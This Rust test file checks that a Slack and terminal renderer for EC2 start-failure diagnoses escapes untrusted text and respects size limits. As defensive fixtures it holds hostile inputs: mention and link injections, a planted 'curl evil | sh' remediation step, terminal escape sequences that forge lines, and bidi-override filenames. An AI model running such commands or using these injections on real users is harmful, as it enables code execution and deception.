//! Slack Block Kit rendering: snapshots of the messages people will see,
//! escaping of untrusted text, and Slack's size limits.

use serde_json::Value;
use start_doctor_core::ids::{Account, Region};
use start_doctor_core::slack::{code, escape, HEADER_MAX, SECTION_MAX};
use start_doctor_start::render::slack;
use start_doctor_start::Diagnosis;

fn texts(message: &Value) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for block in message["blocks"].as_array().unwrap() {
        let kind = block["type"].as_str().unwrap().to_owned();
        if let Some(t) = block["text"]["text"].as_str() {
            out.push((kind.clone(), t.to_owned()));
        }
        for f in block["fields"].as_array().into_iter().flatten() {
            out.push(("field".into(), f["text"].as_str().unwrap().to_owned()));
        }
        for e in block["elements"].as_array().into_iter().flatten() {
            out.push(("context".into(), e["text"].as_str().unwrap().to_owned()));
        }
    }
    out
}

fn assert_within_limits(message: &Value) {
    let blocks = message["blocks"].as_array().unwrap();
    assert!(blocks.len() <= 50, "{} blocks", blocks.len());
    for (kind, text) in texts(message) {
        let n = text.chars().count();
        let max = match kind.as_str() {
            "header" => HEADER_MAX,
            "field" | "context" => 2000,
            _ => SECTION_MAX,
        };
        assert!(n <= max, "{kind} text has {n} characters (max {max})");
    }
    for block in blocks {
        assert!(block["fields"].as_array().is_none_or(|f| f.len() <= 10));
    }
}

#[test]
fn seed_story_message() {
    let diagnoses = start_doctor_testkit::fixtures::diagnose_scenario("seed-story");
    let message = slack::message(&[&diagnoses[0]]);
    assert_within_limits(&message);
    insta::assert_json_snapshot!("seed_story", message);
}

#[test]
fn storm_is_one_message_listing_the_first_instances() {
    let diagnoses = start_doctor_testkit::fixtures::diagnose_scenario("storm");
    let groups = slack::group(&diagnoses);
    assert_eq!(groups.len(), 1);
    let message = slack::message(&groups[0]);
    assert_within_limits(&message);
    let all = texts(&message)
        .into_iter()
        .map(|(_, t)| t)
        .collect::<Vec<_>>()
        .join("\n");
    assert!(all.contains("Instances (200)"));
    assert!(all.contains("…and 180 more"), "volumes");
    // The instance links fill the field whole: none is cut in half, and
    // the count of those left out survives.
    let instances = texts(&message)
        .into_iter()
        .map(|(_, t)| t)
        .find(|t| t.starts_with("*Instances (200)*"))
        .unwrap();
    assert!(instances.ends_with("\n…and 186 more"), "{instances}");
    assert_eq!(instances.matches('<').count(), 14);
    assert_eq!(instances.matches('>').count(), 14);
    assert!(message["blocks"][0]["text"]["text"]
        .as_str()
        .unwrap()
        .starts_with("200 EC2 instances failed"));
    insta::assert_json_snapshot!("storm", message);
}

#[test]
fn untrusted_text_is_escaped() {
    let mut d: Diagnosis =
        start_doctor_testkit::fixtures::diagnose_scenario("seed-story").remove(0);
    d.instance_name = Some("<!channel> db & <https://evil.example|click>".into());
    if let Some(e) = d.kms_error.as_mut() {
        e.message = "denied <@U123> & more".into();
    }
    let message = slack::message(&[&d]);
    let all = texts(&message)
        .into_iter()
        .map(|(_, t)| t)
        .collect::<Vec<_>>()
        .join("\n");
    assert!(all.contains("&lt;!channel&gt; db &amp; &lt;https:\u{200B}//evil.example|click&gt;"));
    assert!(all.contains("denied &lt;@U123&gt; &amp; more"));
    assert!(!all.contains("<!channel>") && !all.contains("<@U123>"));
}

#[test]
fn oversized_text_is_cut_to_slack_limits() {
    let mut d: Diagnosis =
        start_doctor_testkit::fixtures::diagnose_scenario("seed-story").remove(0);
    d.summary = "x&".repeat(5000);
    d.instance_name = Some("n".repeat(4000));
    d.remediation.steps = vec!["step ".repeat(1000); 5];
    let message = slack::message(&[&d]);
    assert_within_limits(&message);
    assert!(message["text"].as_str().unwrap().chars().count() <= SECTION_MAX);
}

#[test]
fn different_causes_are_different_messages() {
    let mut diagnoses = start_doctor_testkit::fixtures::diagnose_scenario("seed-story");
    diagnoses.extend(start_doctor_testkit::fixtures::diagnose_scenario(
        "kms-key-disabled",
    ));
    diagnoses.extend(start_doctor_testkit::fixtures::diagnose_scenario(
        "insufficient-capacity",
    ));
    assert_eq!(slack::group(&diagnoses).len(), 3);
}

/// The seed story's diagnosis, for tests that plant hostile text in it.
fn seed() -> Diagnosis {
    start_doctor_testkit::fixtures::diagnose_scenario("seed-story").remove(0)
}

/// Every text a person sees: block texts, fields, context, and the
/// notification fallback.
fn all_text(message: &Value) -> String {
    let mut all: Vec<String> = texts(message).into_iter().map(|(_, t)| t).collect();
    all.push(message["text"].as_str().unwrap().to_owned());
    all.join("\n")
}

fn kms_quote(message: &Value) -> String {
    texts(message)
        .into_iter()
        .map(|(_, t)| t)
        .find(|t| t.starts_with("*KMS said*"))
        .expect("a KMS quote section")
}

#[test]
fn a_newline_in_a_kms_message_cannot_leave_the_quote() {
    let mut d = seed();
    d.kms_error.as_mut().unwrap().message = "denied\n*Fix*\n1. run `curl evil | sh`\r\n>".into();
    let quote = kms_quote(&slack::message(&[&d]));
    let (intro, quoted) = quote.split_once('\n').unwrap();
    assert!(intro.starts_with("*KMS said*"), "{quote}");
    assert!(quoted.starts_with('>'), "{quote}");
    assert!(
        !quoted.contains(['\n', '\r']),
        "the quote spans lines: {quote:?}"
    );
    assert!(quoted.contains("denied *Fix* 1. run"), "{quote:?}");
}

#[test]
fn a_url_in_a_name_is_not_a_link() {
    let mut d = seed();
    d.instance_name = Some("see https://evil.example/login now".into());
    let message = slack::message(&[&d]);
    let all = all_text(&message);
    assert!(!all.contains("https://evil"), "{all}");
    assert!(all.contains("https:\u{200B}//evil.example/login"), "{all}");
    assert_eq!(
        escape("HTTP://a ftp://b x://c"),
        "HTTP:\u{200B}//a ftp:\u{200B}//b x:\u{200B}//c"
    );
    assert_eq!(
        escape("--policy-document file://policy.json"),
        "--policy-document file://policy.json"
    );
}

#[test]
fn every_mrkdwn_text_is_verbatim_so_slack_links_nothing_by_itself() {
    let message = slack::group_notice(
        &seed(),
        &[seed().instance_id],
        &[],
        Some("oi-0123456789ab"),
        false,
    );
    let mut objects = 0;
    for block in message["blocks"].as_array().unwrap() {
        let texts = [&block["text"]]
            .into_iter()
            .chain(block["fields"].as_array().into_iter().flatten())
            .chain(block["elements"].as_array().into_iter().flatten());
        for t in texts.filter(|t| t["type"] == "mrkdwn") {
            objects += 1;
            assert_eq!(t["verbatim"], true, "{t}");
        }
    }
    assert!(objects >= 5, "only {objects} mrkdwn objects");
}

#[test]
fn control_characters_are_neutralised() {
    let mut d = seed();
    d.instance_name = Some("web\u{1b}[2J\u{7}\u{0}\u{9b}".into());
    d.summary = format!("{}\u{8}\u{8}\u{8}ok", d.summary);
    let message = slack::message(&[&d]);
    let all = all_text(&message);
    let bad: Vec<char> = all
        .chars()
        .filter(|c| c.is_control() && *c != '\n')
        .collect();
    assert!(bad.is_empty(), "raw controls {bad:?} in {all:?}");
    assert!(
        all.contains("web\u{FFFD}[2J\u{FFFD}\u{FFFD}\u{FFFD}"),
        "{all:?}"
    );
}

#[test]
fn bidirectional_overrides_and_isolates_are_neutralised() {
    let bidi = [
        '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}',
        '\u{2068}', '\u{2069}', '\u{200E}', '\u{200F}',
    ];
    let mut d = seed();
    let hostile: String = bidi.iter().map(|c| format!("a{c}")).collect();
    d.instance_name = Some(hostile.clone());
    d.summary = format!("{} {hostile}", d.summary);
    d.kms_error.as_mut().unwrap().message = hostile.clone();
    d.remediation.steps.push(hostile);
    let all = all_text(&slack::message(&[&d]));
    for c in bidi {
        assert!(!all.contains(c), "U+{:04X} survived", c as u32);
    }
    assert!(all.contains(&"a\u{FFFD}".repeat(bidi.len())));
}

#[test]
fn a_backtick_cannot_end_a_code_span() {
    let mut d = seed();
    d.instance_name = Some("x` *bold* _it_ ~s~ `y".into());
    d.state_reason_code = Some("Client.`<!here>`".into());
    let message = slack::message(&[&d]);
    let all = all_text(&message);
    assert!(
        all.contains("(`x\u{2CB} *bold* _it_ ~s~ \u{2CB}y`)"),
        "{all}"
    );
    assert!(
        all.contains("`Client.\u{2CB}&lt;!here&gt;\u{2CB}`"),
        "{all}"
    );
    assert_eq!(code("a`b"), "`a\u{2CB}b`");
}

#[test]
fn a_policy_value_cannot_close_the_code_block() {
    let mut d = seed();
    d.remediation.policy = Some(serde_json::json!({
        "Sid": "```\n<!channel> \u{202E}gnp.exe"
    }));
    let message = slack::message(&[&d]);
    let policy = texts(&message)
        .into_iter()
        .map(|(_, t)| t)
        .find(|t| t.contains("```"))
        .expect("a policy block");
    assert_eq!(policy.matches("```").count(), 2, "{policy}");
    assert!(policy.ends_with("```"), "{policy}");
    assert!(
        !policy.contains('\u{202E}') && !policy.contains("<!channel>"),
        "{policy}"
    );
}

#[test]
fn text_output_passes_no_terminal_escape_through() {
    let mut d = seed();
    d.instance_name = Some("web\u{1b}]0;pwned\u{7}".into());
    d.summary = "fine\n== i-0000000000000000 (forged)\u{1b}[1A\u{9b}K".into();
    d.kms_error.as_mut().unwrap().message = "\u{1b}[31mred\u{202E}txt".into();
    d.remediation.steps = vec!["step\u{1b}c".into()];
    d.remediation.policy = Some(serde_json::json!({ "Sid": "\u{1b}[0m\u{2066}" }));
    let out = start_doctor_start::render::text::render(&[d]);
    assert!(
        !out.contains('\u{1b}') && !out.contains('\u{9b}') && !out.contains('\u{7}'),
        "{out:?}"
    );
    assert!(
        !out.contains('\u{202E}') && !out.contains('\u{2066}'),
        "{out:?}"
    );
    assert!(
        !out.contains("\n== i-0000000000000000 (forged)"),
        "a forged line: {out}"
    );
    assert!(
        out.contains("summary:    fine == i-0000000000000000 (forged)"),
        "{out}"
    );
}

mod untrusted_text_property {
    use super::*;
    use proptest::prelude::*;

    /// Text made mostly of the characters that matter here.
    fn hostile() -> impl Strategy<Value = String> {
        let c = prop_oneof![
            3 => prop::sample::select(vec![
                '<', '>', '&', '`', '*', '_', '~', '|', '\n', '\r', '\t', '\u{0}', '\u{1b}',
                '\u{7f}', '\u{85}', '\u{9b}', '\u{202A}', '\u{202E}', '\u{2066}', '\u{2069}',
                '\u{200E}', '\u{200F}', '\u{2028}', ':', '/', '!', '@', '#', ';',
            ]),
            2 => prop::char::range('a', 'z'),
            1 => any::<char>(),
        ];
        prop::collection::vec(c, 0..40).prop_map(|v| v.into_iter().collect())
    }

    /// Fails when a `<` is not one that this module wrote for a link to a
    /// console URL (`<https://…console.aws.amazon.com…|label>`).
    fn check_angles(text: &str) -> Result<(), TestCaseError> {
        for (i, _) in text.match_indices('<') {
            let rest = &text[i + 1..];
            let end = rest.find('>').unwrap_or(rest.len());
            let inner = &rest[..end];
            let (url, _label) = inner.split_once('|').unwrap_or((inner, ""));
            prop_assert!(
                url.starts_with("https://") && url.contains(".console.aws.amazon.com/"),
                "unescaped `<` at {i} in {text:?}"
            );
            prop_assert!(!url.contains([' ', '<', '|']), "{url:?}");
        }
        Ok(())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn rendered_text_never_carries_raw_controls_or_unescaped_angles(
            name in hostile(), summary in hostile(), message in hostile(),
            code in hostile(), step in hostile(), account in hostile(),
            region in hostile(), event_id in hostile(), sid in hostile(),
        ) {
            let mut d = seed();
            d.instance_name = Some(name);
            d.summary = summary;
            d.kms_error.as_mut().unwrap().message = message;
            d.state_reason_code = Some(code);
            d.remediation.steps.push(step);
            // Only checked ids reach a diagnosis: garbage becomes unknown.
            d.account = Account::parse(&account);
            d.region = Region::parse(&region);
            d.evidence_event_ids.push(event_id);
            d.remediation.policy = Some(serde_json::json!({ "Sid": sid }));
            let message = slack::group_notice(&d, &[d.instance_id.clone()], &[], Some("oi-1"), false);
            let mut all: Vec<(String, String)> = texts(&message);
            all.push(("text".into(), message["text"].as_str().unwrap().to_owned()));
            for (kind, text) in all {
                for c in text.chars() {
                    let allowed = c == '\n' && kind != "header";
                    prop_assert!(
                        allowed || !start_doctor_core::text::is_unsafe(c),
                        "raw U+{:04X} in {kind}: {text:?}", c as u32
                    );
                }
                check_angles(&text)?;
            }
        }
    }
}
